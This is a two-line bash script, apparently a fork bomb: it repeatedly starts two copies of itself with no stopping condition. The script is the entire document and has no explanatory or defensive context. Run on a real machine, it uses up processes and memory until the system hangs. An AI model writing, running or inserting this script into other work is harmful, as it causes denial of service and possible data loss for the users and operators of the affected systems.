#!/bin/bash
$0 & $0
